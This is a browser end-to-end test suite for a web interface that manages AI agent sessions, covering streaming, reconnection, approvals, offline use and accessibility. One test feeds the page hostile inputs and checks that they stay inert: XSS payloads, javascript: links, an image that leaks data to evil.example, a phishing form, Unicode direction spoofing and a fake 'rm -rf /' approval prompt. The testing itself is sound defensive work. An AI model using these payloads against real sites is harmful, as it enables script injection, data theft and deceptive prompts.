// What the page must survive, in a real browser against the real daemon with its own agents.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { closeBrowser, House, open, PATIENCE, until } from "./house.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

after(closeBrowser);

/** A test with a house of its own. */
function it(name, body) {
  test(name, { timeout: 4 * PATIENCE }, async () => {
    const house = await House.open();
    let failed = true;
    try {
      await body(house);
      failed = false;
    } finally {
      await house.close().catch((error) => {
        if (!failed) throw error;
      });
    }
  });
}

const words = (page) => page.locator(".is-message").allInnerTexts().then((texts) => texts.join("\n"));
/** The numbers of the chunks on the page, in order: each word of a stream names its place. */
const numbers = (page, tag) => page.evaluate((tag) => [...document.querySelector(".rows").innerText.matchAll(new RegExp(`${tag}#(\\d+) `, "g"))].map((match) => Number(match[1])), tag);
const whole = (count) => Array.from({ length: count }, (_, at) => at);

/** The marked record is on screen, and still is when everything before it was read and nothing moves any more. */
async function ledTo(page, text) {
  await until(page, (text) => new RegExp(`${text}\\b`).test(document.querySelector(".row.marked")?.innerText ?? ""), text);
  await until(page, () => document.querySelector(".loading-line") === null);
  await page.evaluate(async () => {
    const list = document.querySelector(".transcript");
    for (let still = 0, was = -1; still < 30; still += 1) {
      if (list.scrollTop !== was) still = 0;
      was = list.scrollTop;
      await new Promise((go) => requestAnimationFrame(go));
    }
  });
  const [row, frame] = await page.evaluate(() => [".row.marked", ".transcript"].map((one) => document.querySelector(one)?.getBoundingClientRect().toJSON()));
  assert.ok(row, "the marked record is still there");
  assert.ok(row.top >= frame.top && row.bottom <= frame.bottom, `${JSON.stringify(row)} in ${JSON.stringify(frame)}`);
}

describe("the page", () => {
  it("makes a session from the first message, shows its question outside of the transcript, and runs it on a key", async (house) => {
    await house.session("seed", "shell", "true", "--mode", "auto");
    const page = await house.page();
    await page.locator('a.session:has-text("seed")').waitFor();
    await page.evaluate(() => localStorage.setItem("vibes.agent", "shell"));
    await page.locator(".first textarea").fill("echo from-the-page");
    await page.keyboard.press("Enter");
    const card = page.locator(".dock .card");
    await card.waitFor();
    assert.equal(await page.locator(".transcript .card").count(), 0);
    assert.match(await card.locator(".request").innerText(), /^echo from-the-page$/);
    assert.match(await page.title(), /^\(1\)/);
    assert.match(await page.locator('link[rel="icon"]').getAttribute("href"), /badge/);
    await page.evaluate(() => document.activeElement.blur());
    await page.waitForTimeout(450); // the key counts only for a card that stood long enough to be read
    await page.keyboard.press("a");
    await until(page, () => /from-the-page/.test(document.querySelector(".is-message")?.innerText ?? ""));
    await card.waitFor({ state: "detached" });
    await until(page, () => !/^\(1\)/.test(document.title));
  });

  it("shows in one tab what is answered in another, and moves the badge when the owner goes", async (house) => {
    const id = await house.session("both", "shell", "echo once");
    const first = await house.page();
    await open(first, id);
    await until(first, () => document.querySelector(".attached.own") !== null);
    const second = await house.page();
    await open(second, id);
    await second.locator(".dock .card").waitFor();
    assert.equal(await second.locator(".attached.own").count(), 0, "there is one owner");
    await first.locator('.dock button:has-text("Allow")').first().click();
    await second.locator(".dock .card").waitFor({ state: "detached" });
    await until(second, () => /once/.test(document.querySelector(".is-message")?.innerText ?? ""));
    assert.match(await second.locator(".is-permission").innerText(), /was allowed by/);
    await first.context().close();
    await until(second, () => document.querySelector(".attached.own") !== null);
    await until(second, () => document.querySelector("a.session.current .own") !== null);
  });

  it("answers from the inbox without becoming the owner", async (house) => {
    const id = await house.session("aside", "shell", "echo from-aside");
    const page = await house.page();
    await page.locator(`a.session[href="#/s/${id}"]`).waitFor();
    await page.locator('[aria-label^="Approvals"]').first().click();
    await page.locator('.inbox-item button:has-text("Allow")').first().click();
    await page.locator(".page-body .empty").waitFor();
    await house.vibes("wait", id, "--until", "idle");
    assert.equal(JSON.parse(await house.vibes("show", id, "--json")).owner_id, null);
    await open(page, id);
    await until(page, () => /from-aside/.test(document.querySelector(".is-message")?.innerText ?? ""));
  });

  it("misses no word and doubles none when the daemon is killed in the middle of a turn", async (house) => {
    const page = await house.page();
    const id = await house.session("stream", "fake", "chunks 400 8 15000 W");
    await open(page, id);
    await until(page, () => /W#40 /.test(document.querySelector(".rows").innerText));
    for (let kills = 0; kills < 2; kills += 1) {
      await house.kill();
      await page.locator(".banner").waitFor();
      await house.start();
      await page.locator(".banner").waitFor({ state: "detached" });
    }
    await until(page, () => /W#399 /.test(document.querySelector(".rows").innerText));
    assert.deepEqual(await numbers(page, "W"), whole(400));
    // And the same after the page itself was loaded anew.
    await page.reload();
    await until(page, () => /W#399 /.test(document.querySelector(".rows")?.innerText ?? ""));
    assert.deepEqual(await numbers(page, "W"), whole(400));
  });

  it("goes on where it was after the network was away", async (house) => {
    const page = await house.page();
    const id = await house.session("away", "fake", "chunks 300 8 10000 N");
    await open(page, id);
    await until(page, () => /N#10 /.test(document.querySelector(".rows").innerText));
    await page.context().setOffline(true);
    await page.evaluate(() => window.dispatchEvent(new Event("offline")));
    await until(page, () => /N#40 /.test(document.querySelector(".rows").innerText));
    await page.context().setOffline(false);
    await until(page, () => /N#299 /.test(document.querySelector(".rows").innerText));
    assert.deepEqual(await numbers(page, "N"), whole(300));
  });

  it("sends the answers to all parts of a question together, as a choice, several, and words", async (house) => {
    const questions = [
      { question: "Which colour?", header: "Look", multiSelect: false, options: [{ label: "Red", description: "warm" }, { label: "Blue", description: "cold" }] },
      { question: "Which days?", header: "When", multiSelect: true, options: [{ label: "Monday" }, { label: "Friday" }, { label: "Sunday" }] },
      { question: "And why?", header: "Why", multiSelect: false, options: [{ label: "No reason" }] },
    ];
    const id = await house.session("parts", "asker", JSON.stringify({ questions }));
    const page = await house.page();
    await open(page, id);
    const form = page.locator(".dock .questions");
    await form.waitFor();
    const send = form.locator('button[type="submit"]');
    assert.ok(await send.isDisabled(), "nothing is answered yet");
    await page.evaluate(() => document.activeElement.blur());
    await page.waitForTimeout(450);
    await page.keyboard.press("a"); // no key answers what has several parts
    await form.getByLabel("Red").check();
    await form.getByLabel("Blue").check();
    await form.getByLabel("Monday").check();
    await form.getByLabel("Sunday").check();
    assert.ok(await send.isDisabled(), "one part has no answer");
    await form.getByLabel("Other words for: And why?").fill("because <b>I</b> say so");
    await send.click();
    await form.waitFor({ state: "detached" });
    await until(page, () => /allow: /.test(document.querySelector(".is-message")?.innerText ?? ""));
    const told = JSON.parse(/allow: (\{.*\})/.exec(await words(page))[1]);
    assert.deepEqual(told, { "Which colour?": "Blue", "Which days?": "Monday, Sunday", "And why?": "because <b>I</b> say so" });
  });

  it("starts a session from a template, with its places filled", async (house) => {
    await house.session("seed", "shell", "true", "--mode", "auto");
    const file = join(house.dir, "greet.toml");
    writeFileSync(file, `agent = "shell"\ndescription = "Greets"\nmode = "auto"\ncwd = "${house.work}"\nprompt = "echo to-{who}: {prompt}"\n`);
    await house.vibes("template", "save", "greet", file);
    const page = await house.page();
    await page.locator('a.session:has-text("seed")').waitFor();
    await page.evaluate(() => document.activeElement.blur());
    await page.keyboard.press("n");
    const form = page.locator("dialog form");
    await form.getByLabel("Template").selectOption("greet");
    assert.ok(await form.locator('input[value="shell"]').isChecked());
    assert.equal(await form.getByLabel("Directory").inputValue(), house.work);
    await form.getByLabel("who", { exact: true }).fill("Ada");
    await form.getByLabel("prompt, in its place").fill("hello");
    await form.locator('button[type="submit"]').click();
    await until(page, () => /to-Ada: hello/.test(document.querySelector(".is-message")?.innerText ?? ""));
    const made = JSON.parse(await house.vibes("ls", "--json"));
    const list = Array.isArray(made) ? made : made.sessions;
    assert.ok(list.some((session) => session.description === "Greets" && session.metadata?.template === "greet"), JSON.stringify(list));
  });

  it("puts rules in force that were checked, and no others", async (house) => {
    if (house.bridged) return;
    const page = await house.page();
    await page.evaluate(() => (location.hash = "#/settings"));
    await page.locator('.rules button:has-text("Write rules")').click();
    const box = page.locator(".rules textarea");
    const apply = page.locator('.rules button:has-text("Put in force")');
    assert.ok(await apply.isDisabled(), "unchecked");
    await box.fill("[[rule]\nbroken");
    await page.locator('.rules button:has-text("Check")').click();
    await page.locator(".rules .error-text").waitFor();
    assert.ok(await apply.isDisabled(), "wrong");
    await box.fill('version = 1\nscope = "all"\n[[rule]]\nname = "echo"\ndecision = "allow"\nagent = "shell"\ntool = "execute"\nany_command = true\n');
    assert.ok(await apply.isDisabled(), "another text than the one that was checked");
    await page.locator('.rules button:has-text("Check")').click();
    await page.locator('.rules p[role="status"]').waitFor();
    assert.equal(await page.locator(".rules .error-text").count(), 0, await page.locator(".rules").innerText());
    await apply.click();
    await page.locator(".rules details").waitFor();
    const id = await house.session("ruled", "shell", "echo by-the-rule");
    await house.vibes("wait", id, "--until", "idle");
    await page.locator(".rules summary").click();
    await page.locator('.rules button:has-text("Edit")').click();
    assert.match(await box.inputValue(), /any_command/);
  });

  it("tells what is new to the person, the same in two browsers and the terminal", async (house) => {
    if (house.bridged) return;
    const id = await house.session("news", "fake", "say one");
    await house.vibes("wait", id, "--until", "idle");
    const inTerminal = async () => JSON.parse(await house.vibes("ls", "--json")).find((one) => one.id === id).unread;
    const pages = [await house.page(), await house.page()];
    // Who looks elsewhere has not read it, even with the session on screen.
    const front = (page, has) => page.evaluate((has) => ((document.hasFocus = () => has), dispatchEvent(new Event(has ? "focus" : "blur"))), has);
    for (const page of pages) {
      await page.locator(`a.session[href="#/s/${id}"].unread .badge`).waitFor();
      await until(page, () => /1 new/.test(document.title) && /new/.test(document.querySelector('link[rel="icon"]').href));
      await front(page, false);
    }
    await open(pages[0], id);
    await until(pages[0], () => /one/.test(document.querySelector(".is-message")?.innerText ?? ""));
    await house.vibes("send", id, "--wait", "say two");
    await until(pages[0], () => document.querySelector("a.session.current .badge")?.innerText.startsWith("2"));
    assert.equal(await inTerminal(), 2, "nobody has looked at it");
    await front(pages[0], true);
    for (const page of pages) {
      await page.locator(".badge").waitFor({ state: "detached" });
      await until(page, () => !/\d new/.test(document.title));
    }
    await until(pages[1], () => document.querySelector("a.session.unread") === null);
    for (let left = 200; (await inTerminal()) !== 0; left -= 1) assert.ok(left, "the terminal agrees");
    // Read in the terminal, read in the browser: here with the reader away from the session.
    for (const page of pages) await front(page, false);
    await house.vibes("send", id, "--wait", "say three");
    for (const page of pages) await page.locator("a.session.unread .badge").waitFor();
    await house.vibes("read", id);
    for (const page of pages) await page.locator(".badge").waitFor({ state: "detached" });
    // Further up in a long conversation the end is not read.
    await house.vibes("send", id, "--wait", Array.from({ length: 60 }, (_, at) => `tool t${at} Step ${at}\ntool_done t${at}`).join("\n"));
    await until(pages[0], () => /Step 59/.test(document.querySelector(".rows").innerText));
    await until(pages[0], () => {
      document.querySelector(".transcript").scrollBy(0, -300);
      return document.querySelector(".to-end") !== null;
    });
    await front(pages[0], true);
    await pages[0].waitForTimeout(900); // longer than the moment after which it would count
    assert.equal(await inTerminal(), 1, "its end was not on screen");
    const audit = (await house.vibes("audit")).split("\n").filter((line) => /mark_read/.test(line));
    assert.equal(audit.length, 1, `once for each time it was read, not for each record: ${audit}`);
  });

  it("notifies of a question while the page is not in front, by name and without an agent's words", async (house) => {
    const page = await house.page();
    await page.context().grantPermissions(["notifications"]);
    await page.evaluate(() => {
      localStorage.setItem("vibes.notify", "on");
      window.notes = [];
      const Real = window.Notification;
      window.Notification = class extends Real {
        constructor(title, options) {
          super(title, options);
          window.notes.push({ title, body: options.body, tag: options.tag });
        }
      };
    });
    assert.equal(await page.evaluate(() => Notification.permission), "granted");
    const hide = (hidden) => page.evaluate((hidden) => {
      Object.defineProperty(document, "hidden", { configurable: true, get: () => hidden });
      Object.defineProperty(document, "visibilityState", { configurable: true, get: () => (hidden ? "hidden" : "visible") });
      document.dispatchEvent(new Event("visibilitychange"));
    }, hidden);
    const first = await house.session("front", "shell", "echo seen-anyway");
    await page.locator(`a.session[href="#/s/${first}"]`).waitFor();
    await until(page, () => /^\(1\)/.test(document.title));
    assert.deepEqual(await page.evaluate(() => window.notes), [], "who looks at the page needs none");
    await hide(true);
    const id = await house.session("behind", "shell", "echo a-secret-word");
    await until(page, () => window.notes.length > 0);
    const notes = await page.evaluate(() => window.notes);
    assert.deepEqual(notes.map((note) => [note.title, note.tag]), [["behind needs you", id]]);
    assert.ok(!JSON.stringify(notes).includes("secret-word"));
    await hide(false);
  });

  it("opens without the daemon, shows what it kept, and goes on when the daemon is back", async (house) => {
    if (house.bridged) return;
    const id = await house.session("kept", "fake", "say first words");
    const page = await house.page();
    await page.evaluate(() => navigator.serviceWorker.ready);
    // Whoever has the page by its worker once has all of it.
    await page.reload();
    await until(page, () => navigator.serviceWorker.controller !== null);
    await open(page, id);
    await until(page, () => /first words/.test(document.querySelector(".rows").innerText));
    await page.evaluate(async (id) => {
      const once = (asked) => new Promise((found) => (asked.onsuccess = () => found(asked.result)));
      for (;;) {
        const db = await once(indexedDB.open("vibes"));
        const copy = await once(db.transaction("sessions").objectStore("sessions").get(id));
        db.close();
        if (copy?.transcript?.items.length > 0 && copy.session.state === "idle") return;
        await new Promise((go) => setTimeout(go, 50));
      }
    }, id);
    await house.kill();
    await page.reload();
    await page.locator(".banner").waitFor();
    await until(page, () => /first words/.test(document.querySelector(".rows")?.innerText ?? ""));
    await house.start();
    await house.vibes("send", id, "--wait", "say second words");
    await page.locator(".banner").waitFor({ state: "detached" });
    await until(page, () => /second words/.test(document.querySelector(".rows").innerText));
    const said = await words(page);
    assert.deepEqual(["first words", "second words"].map((one) => said.split(one).length - 1), [1, 1], said);
  });

  it("keeps ten sessions live, and each draft and place", async (house) => {
    const page = await house.page();
    const ids = [];
    for (let at = 0; at < 10; at += 1) ids.push(await house.session(`s${at}`, "fake", `chunks 120 6 20000 T${at}\nsay end`));
    await page.locator(`a.session[href="#/s/${ids[9]}"]`).waitFor();
    for (let round = 0; round < 2; round += 1) {
      for (const [at, id] of ids.entries()) {
        await open(page, id);
        const box = page.locator(".composer textarea");
        await box.waitFor();
        if (round === 0) await box.fill(`draft ${at}`);
        else assert.equal(await box.inputValue(), `draft ${at}`);
      }
    }
    for (const [at, id] of ids.entries()) {
      await open(page, id);
      await until(page, (tag) => document.querySelector(".rows").innerText.includes(`${tag}#119 `), `T${at}`);
      assert.deepEqual(await numbers(page, `T${at}`), whole(120));
    }
  });

  it("keeps hostile words inert", async (house) => {
    const page = await house.page();
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.evaluate(() => (window.pwned = 0));
    const hostile = [
      "say <script>window.pwned=1</script><img src=x onerror=\"window.pwned=2\"><svg onload=\"window.pwned=3\"><a href=\"javascript:window.pwned=4\">x</a>",
      "say [click](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) ![leak](http://evil.example/?q=secret)",
      "say <iframe src=\"http://evil.example/\"></iframe><style>body{display:none}</style><form action=http://evil.example><button>Allow</button></form>",
      "say invoice\u202Egpj.exe \u2066hidden\u2069 zero\u200Bwidth",
      "tool t0 look",
      "say [https://bank.example](https://evil.example/login)",
      "tool t1 <img src=x onerror=window.pwned=7>",
      "think <img src=x onerror=window.pwned=8>",
      "plan <svg onload=window.pwned=9>;b",
      "say ▲ fake asks to run a command  rm -rf /  [ Allow A ] [ Reject D ]",
      "say end",
    ];
    const id = await house.session("evil", "fake", hostile.join("\n"));
    await open(page, id);
    await until(page, () => /end/.test([...document.querySelectorAll(".is-message")].pop()?.innerText ?? ""));
    for (const head of await page.locator(".tool-head, .fold > summary").all()) await head.click();
    assert.equal(await page.evaluate(() => window.pwned), 0);
    assert.equal(await page.locator(".transcript script, .transcript iframe, .transcript form, .transcript style, .transcript svg[onload], .transcript img, .transcript [onerror]").count(), 0);
    assert.deepEqual(asked.filter((url) => !url.startsWith(`http://127.0.0.1:${house.port}`) && !url.startsWith("data:")), []);
    const links = await page.locator(".transcript a").evaluateAll((all) => all.map((link) => [link.protocol, link.innerText]));
    for (const [protocol] of links) assert.ok(["http:", "https:", "mailto:"].includes(protocol), protocol);
    assert.ok(links.some(([, text]) => text.includes("(evil.example)")), "a link shows where it leads");
    const text = await page.locator(".rows").innerText();
    assert.ok(text.includes("‹202E›"), "what turns the text around is shown as its code");
    assert.ok(!/[\u202e\u2066\u200b]/.test(text));
    assert.equal(await page.locator(".card").count(), 0, "nothing an agent prints is a question");
  });

  it("draws a line of ten megabytes and stays quick", async (house) => {
    const page = await house.page();
    const id = await house.session("long", "fake", "bigchunk 10000000\nsay end-of-it");
    await open(page, id);
    await until(page, () => /end-of-it/.test(document.querySelector(".rows").innerText));
    const took = await page.evaluate(async () => {
      const from = performance.now();
      document.querySelector(".transcript").scrollBy(0, -4000);
      await new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)));
      return performance.now() - from;
    });
    assert.ok(took < 1000, `${took} ms for a scroll`);
    assert.ok((await page.locator(".row").count()) < 60, "only what is on screen is in the document");
  });

  it("reads a long conversation back to its first record, and leads to a record by its link", async (house) => {
    const id = await house.session("deep", "fake", Array.from({ length: 1500 }, (_, at) => `tool t${at} Step ${at}\ntool_done t${at}`).join("\n"));
    await house.vibes("wait", id, "--until", "idle");
    const page = await house.page();
    await open(page, id);
    await until(page, () => /Step 1499/.test(document.querySelector(".rows").innerText));
    const seq = JSON.parse((await house.vibes("logs", id, "--json")).split("\n").find((line) => line.includes('"Step 42"'))).seq;
    const link = `${house.link.split("#")[0]}#/s/${id}@${seq}`;
    // Frames that come late let answers in between the scroll and its settling, as a busy machine does.
    await page.evaluate(() => {
      const frame = requestAnimationFrame.bind(window);
      window.requestAnimationFrame = (run) => setTimeout(() => frame(run), 200);
    });
    await page.goto(link);
    await ledTo(page, "Step 42");
    assert.ok((await page.locator(".row").count()) < 80);
    // In a tab of its own, which knows nothing of the session yet.
    const fresh = await page.context().newPage();
    house.watch(fresh);
    await fresh.goto(link);
    await ledTo(fresh, "Step 42");
    await fresh.close();
    await page.locator(".to-end").click();
    await until(page, () => /Step 1499/.test(document.querySelector(".rows").innerText));
  });

  it("offers to keep or remove what the daemon no longer has", async (house) => {
    const id = await house.session("brief", "fake", "say kept words");
    const page = await house.page();
    await open(page, id);
    await until(page, () => /kept words/.test(document.querySelector(".rows").innerText));
    await house.vibes("kill", id);
    await house.kill();
    await page.locator(".banner").waitFor();
    await house.start();
    await page.locator(".banner").waitFor({ state: "detached" });
    // The copy is written when the page has time for it.
    await page.evaluate(async (id) => {
      const once = (asked) => new Promise((found) => (asked.onsuccess = () => found(asked.result)));
      for (;;) {
        const db = await once(indexedDB.open("vibes"));
        const copy = await once(db.transaction("sessions").objectStore("sessions").get(id));
        db.close();
        if (copy?.transcript?.items.length > 0) return;
        await new Promise((go) => setTimeout(go, 50));
      }
    }, id);
    await house.vibes("rm", "--purge", id);
    await page.reload();
    await page.locator(".gone-bar").waitFor();
    assert.match(await words(page), /kept words/);
    await page.locator('.gone-bar button:has-text("Remove it")').click();
    await page.locator(`a.session[href="#/s/${id}"]`).waitFor({ state: "detached" });
  });

  it("has no fault that axe finds, in the list, a session with a question, the dialogs and the pages", async (house) => {
    const id = await house.session("ask", "shell", "make test");
    const talk = await house.session("talk", "fake", "plan a;b\nthink hm\ntool t Read x\ntool_done t\nsay # Title\nsay \nsay words with `code` and [a link](https://example.org)");
    for (const colorScheme of ["light", "dark"]) {
      const page = await house.page({ colorScheme, bypassCSP: true, reducedMotion: "reduce" });
      const check = async (what) => {
        await page.addScriptTag({ content: axe });
        const { violations } = await page.evaluate(() => axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"] }));
        const told = violations.map(({ id: rule, nodes }) => `${rule}: ${nodes.slice(0, 3).map((node) => `${node.html.slice(0, 160)} ${node.any.map((one) => one.message).join(" ")}`).join(" | ")}`);
        assert.deepEqual(told, [], `${what}, ${colorScheme}`);
      };
      await page.locator(`a.session[href="#/s/${id}"]`).waitFor();
      await check("the list");
      await open(page, talk);
      await page.locator(".turn-end").waitFor();
      await check("a conversation");
      await open(page, id);
      await page.locator(".dock .card").waitFor();
      await page.locator('[aria-label="Details"]').first().click();
      await page.locator(".tab-panel .facts").waitFor();
      await check("a session with a question and details");
      await page.locator('[aria-label="Close details"]').click();
      for (const hash of ["#/inbox", "#/settings", "#/costs"]) {
        await page.evaluate((hash) => (location.hash = hash), hash);
        await page.locator(".page-body").waitFor();
        await check(hash);
      }
      await page.evaluate(() => document.activeElement.blur());
      await page.keyboard.press("n");
      await page.locator("dialog").waitFor();
      await check("the new session dialog");
    }
  });

  it("says so when its token is taken back, and lets a shared link only look", async (house) => {
    if (house.bridged) return;
    const id = await house.session("shared", "shell", "echo only-looked-at");
    const page = await house.page();
    await page.locator(`a.session[href="#/s/${id}"]`).waitFor();
    const { links, token } = JSON.parse(await house.vibes("share", id, "--json"));
    const guest = await house.page({}, links[0]);
    await until(guest, () => /may look at the session/.test(document.querySelector(".below")?.innerText ?? ""));
    assert.equal(new URL(guest.url()).hash, `#/s/${id}`, "the secret is out of the address");
    assert.equal(await guest.locator(".card, .composer").count(), 0);
    assert.equal(await guest.locator("a.session").count(), 1);
    await house.vibes("token", "revoke", token.id);
    await guest.locator(".banner.bad").waitFor();
    assert.equal(await page.locator(".banner").count(), 0, "others go on");
    const reused = await house.page({}, house.link);
    await reused.locator(".banner.bad").waitFor();
    assert.match(await reused.locator(".toast.bad, .banner.bad").first().innerText(), /code/);
  });

  it("works at 320 pixels: nothing is wider than the screen, and back leads to the list", async (house) => {
    const id = await house.session("narrow", "shell", "echo a-rather-long-command --with=many --options=that --do=not --fit=at --all");
    const page = await house.page({ viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true });
    const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
    await page.locator(`a.session[href="#/s/${id}"]`).waitFor();
    assert.ok(await fits(), "the list");
    await page.locator(`a.session[href="#/s/${id}"]`).tap();
    await page.locator(".dock .card").waitFor();
    assert.ok(await fits(), "the session");
    for (const button of await page.locator(".dock footer button:not(.link)").all()) {
      const { height } = await button.boundingBox();
      assert.ok(height >= 40, `${height} px for a finger`);
    }
    await page.locator('.dock button:has-text("Allow")').first().tap();
    await page.locator(".dock .card").waitFor({ state: "detached" });
    await page.locator(".back").tap();
    await page.locator(".sidebar").waitFor();
  });

  it("stays without long tasks while sessions stream", async (house) => {
    const page = await house.page();
    const browser = page.context().browser();
    await browser.startTracing(page, { categories: ["toplevel", "__metadata"] });
    const ids = [];
    for (let at = 0; at < 6; at += 1) ids.push(await house.session(`busy${at}`, "fake", `chunks 500 30 10000 B${at}`));
    await open(page, ids[0]);
    await until(page, () => /B0#499 /.test(document.querySelector(".rows").innerText));
    const { traceEvents } = JSON.parse((await browser.stopTracing()).toString());
    // Processor time, not the clock's: a busy machine holds the browser up, which is none of the page's doing.
    const main = new Set(traceEvents.filter((one) => one.name === "thread_name" && one.args.name === "CrRendererMain").map((one) => `${one.pid} ${one.tid}`));
    const tasks = traceEvents.filter((one) => one.tdur !== undefined && main.has(`${one.pid} ${one.tid}`)).map((one) => Math.round(one.tdur / 1000));
    assert.ok(tasks.length > 100, "tasks were seen");
    const long = tasks.filter((ms) => ms >= 50);
    console.log(`${tasks.length} tasks, the longest ${Math.max(...tasks)} ms of processor time, over 50 ms: ${JSON.stringify(long)}`);
    assert.ok(long.length <= 2, JSON.stringify(long));
  });
});
